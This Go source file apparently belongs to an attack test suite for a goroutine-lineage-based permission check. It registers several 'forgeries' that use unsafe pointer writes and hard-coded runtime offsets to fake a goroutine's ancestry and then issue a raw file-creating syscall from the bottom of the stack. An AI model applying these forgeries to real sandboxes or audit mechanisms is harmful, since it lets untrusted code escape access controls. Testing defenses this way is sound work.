// SPDX-License-Identifier: Apache-2.0

package code

import (
	"runtime"
	"strings"
	"syscall"
	"time"
	"unsafe"
)

func init() {
	for name, forge := range forgeries {
		forge := forge
		Attacks[name] = func() error { return orphan(forge) }
	}
}

// lineage are the words of g that say where a goroutine comes from; list points to a slice of 40 bytes for each ancestor.
type lineage struct {
	gopc uintptr
	list *[]ancestor
}

type ancestor struct {
	pcs  []uintptr
	goid uint64
	gopc uintptr
}

// The attack is called by a goroutine that main made, whose lineage is free of this module; a goroutine that this module made
// takes over some of it.
var forgeries = map[string]func(own *lineage, mains lineage){
	"ancestry-gopc":  func(own *lineage, mains lineage) { own.gopc = mains.gopc },
	"ancestry-list":  func(own *lineage, mains lineage) { own.list = mains.list },
	"ancestry-nil":   func(own *lineage, mains lineage) { *own = lineage{mains.gopc, nil} },
	"ancestry-empty": func(own *lineage, mains lineage) { *own = lineage{mains.gopc, &[]ancestor{}} },
	"ancestry-bad":   func(own *lineage, mains lineage) { *own = lineage{mains.gopc, bad} },
	"ancestry-long":  func(own *lineage, mains lineage) { *own = lineage{mains.gopc, long(mains.list)} },
	"ancestry-pcs":   func(own *lineage, mains lineage) { *own = lineage{mains.gopc, withoutFrames(mains.list)} },
	"ancestry-root":  func(own *lineage, mains lineage) { *own = lineage{mains.gopc, withoutRoot(mains.list)} },
	"ancestry-zero":  func(own *lineage, mains lineage) { *own = lineage{} },
	"ancestry-all":   func(own *lineage, mains lineage) { *own = mains },
	"ancestry-whole": func(own *lineage, mains lineage) {
		*own = mains
		if strings.HasPrefix(runtime.Version(), "go1.18") || strings.HasPrefix(runtime.Version(), "go1.19") ||
			strings.HasPrefix(runtime.Version(), "go1.20") {
			return // they have no parent's id in front of gopc
		}
		*word(uintptr(unsafe.Pointer(own)) - 8) = *word(uintptr(unsafe.Pointer(mainsLineage)) - 8)
	},
}

var mainsLineage *lineage

var badAddress = uintptr(1 << 45)

var bad = *(**[]ancestor)(unsafe.Pointer(&badAddress))

// long says that there are more ancestors than the runtime keeps.
func long(list *[]ancestor) *[]ancestor {
	header := *(*[3]uintptr)(unsafe.Pointer(list))
	header[1], header[2] = 1<<40, 1<<40
	longer := (*[]ancestor)(unsafe.Pointer(&header))
	forged = append(forged, longer)
	return longer
}

// withoutFrames has ancestors that were nowhere.
func withoutFrames(list *[]ancestor) *[]ancestor {
	copied := append([]ancestor{}, *list...)
	for i := range copied {
		copied[i].pcs = nil
	}
	forged = append(forged, &copied)
	return &copied
}

// withoutRoot leaves out where the last ancestor began.
func withoutRoot(list *[]ancestor) *[]ancestor {
	copied := append([]ancestor{}, *list...)
	last := &copied[len(copied)-1]
	if len(last.pcs) > 1 {
		last.pcs = last.pcs[:1]
	}
	forged = append(forged, &copied)
	return &copied
}

var forged []*[]ancestor

// lineageOffset is where g has it.
func lineageOffset() uintptr {
	for _, row := range []struct {
		version string
		offset  uintptr
	}{{"go1.18", 296}, {"go1.19", 296}, {"go1.20", 296}, {"go1.21", 280}, {"go1.22", 280}, {"go1.25", 280}} {
		if strings.HasPrefix(runtime.Version(), row.version) {
			return row.offset
		}
	}
	return 288
}

func lineageOf(g uintptr) *lineage {
	address := g + lineageOffset()
	return *(**lineage)(unsafe.Pointer(&address))
}

// orphan has a goroutine of this module forge where it comes from, leave its function, and make the call at its stack's bottom.
func orphan(forge func(own *lineage, mains lineage)) error {
	mainsLineage = lineageOf(register())
	mains := *mainsLineage
	if mains.list == nil { // bare, the runtime keeps none
		mains.list = &[]ancestor{{}}
	}
	before := runtime.NumGoroutine()
	go func() {
		forge(lineageOf(register()), mains)
		fp := frame()
		for *word(fp) != 0 {
			fp = *word(fp)
		}
		jump(kernelEntry(), fp+8, 0, 0, syscall.SYS_CREAT, path, 0o644, 0)
	}()
	for runtime.NumGoroutine() > before {
		time.Sleep(time.Millisecond)
	}
	return nil
}
